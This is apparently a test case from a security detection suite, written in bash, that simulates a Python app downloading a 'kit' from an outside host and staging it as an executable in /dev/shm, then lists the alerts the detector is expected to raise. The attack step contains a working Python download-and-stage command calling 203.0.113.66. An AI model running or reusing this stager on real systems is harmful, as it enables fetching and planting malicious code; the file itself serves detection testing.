# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='python fetches a kit into /dev/shm'
case_class=S
case_prepare() {
	kit_server
	run app pg-many python3 -c 'import time
while True: time.sleep(1)'
	client_of c "http://S8python-app:80/"
}
case_attack() {
	in_ app python3 -c '
import socket, os
s = socket.create_connection(("203.0.113.66", 8088), 3); s.send(b"GET /kit.sh HTTP/1.0\r\n\r\n"); d = b""
while True:
	r = s.recv(4096)
	if not r: break
	d += r
f = open("/dev/shm/kit", "wb"); f.write(d.split(b"\r\n\r\n", 1)[1]); f.close(); os.chmod("/dev/shm/kit", 0o755)'
}
case_expect='intel.ip S8python-app /usr/bin/python3* ext:203.0.113.66
intel.file S8python-app * /dev/shm/kit'
